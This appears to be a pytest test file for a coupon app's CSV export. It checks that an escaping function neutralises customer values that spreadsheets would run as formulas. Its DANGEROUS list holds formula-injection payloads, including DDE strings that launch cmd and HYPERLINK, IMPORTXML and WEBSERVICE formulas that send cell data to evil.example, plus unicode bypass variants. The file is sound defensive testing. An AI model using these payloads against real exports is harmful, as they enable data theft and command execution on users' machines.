"""R13: a spreadsheet must not evaluate customer input as a formula when it opens an export."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest

from couponflow.domain.csv_safety import escape_formulas
from couponflow.domain.models import Holder, Redemption, RedemptionStatus
from couponflow.services.exports import COLUMNS, ExportService

DANGEROUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @x",
    "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"win")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc")',
    '"=1+1', '""=1+1', "x;=1+1", "x\t=1+1", "x\n=1+1", "x\r\n+1", 'x";=1+1', "x; =1+1", "x,=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20x", "\u00a0=1+1", "\x00=1+1", "\x0b=1+1", "\u2028=1+1", "+491701234567", "-", "=", "@",
    "x|=1+1", "\u3000=1+1", "'=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u2060+1", "\u00ad-1", "\u202e@x", "\u200d =1+1", "\u3164=1",
    "\ufe0f=1",
    "\x1d=1+1", "\x7f=1+1", "\U000e0041=1+1", "\u2800=1+1", "x;\u200b=1+1",
    "\"\u200b=1+1", "\u200b\uff1d1",
]  # fmt: skip
# A cell may begin after any of these separators; some programs ignore quotation marks.
_SKIPPED = r"[\s\x00\"\x1d\x7f\u00ad\u200b-\u202e\u2060\u2800\u3164\ufe0f\ufeff\U000e0041]*"
_FORMULA = re.compile(rf"(^|[;,\t\r\n|]){_SKIPPED}[=+\-@\uff1d\uff0b\uff0d\uff20]")


@pytest.mark.parametrize("value", DANGEROUS)
def test_escaped_value_never_begins_a_formula(value):
    assert not _FORMULA.search(escape_formulas(value))
    assert escape_formulas(value).replace("'", "") == value.replace("'", ""), "nothing is lost"


def test_control_unescaped_values_begin_formulas():
    assert [value for value in DANGEROUS if not _FORMULA.search(value)] == ["'=1+1"]


@pytest.mark.parametrize(
    "value",
    [
        "ann",
        "customer-1",
        "a+b@example.org",
        "x=1",
        "U4af4980629",
        "5511987654321",
        "",
        "a;b",
        "7 - 2",
    ],
)
def test_safe_value_is_unchanged(value):
    assert escape_formulas(value) == value


class File:
    def save(
        self,
        organisation_id: str,
        export_id: str,
        content: bytes,
        content_type: str,
        file_name: str,
    ) -> str:
        self.content = content
        return "https://bucket.example"


def redemption(customer_id: str, number: int = 1) -> Redemption:
    now, holder = datetime(2026, 1, 1, tzinfo=UTC), Holder("c" * 13, "m" * 26)
    return Redemption(
        f"id-{number}",
        holder,
        "000001",
        RedemptionStatus.DISTRIBUTED,
        customer_id,
        customer_id,
        now,
    )


def test_export_has_complete_rows_without_formulas():
    file = File()
    records = (redemption(value, number) for number, value in enumerate(DANGEROUS))
    written = ExportService(None, file)._written(records)  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(written.decode(), newline="")))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(DANGEROUS) + 1
    assert {len(row) for row in rows} == {len(COLUMNS)}
    assert not [cell for row in rows for cell in row if _FORMULA.search(cell)]
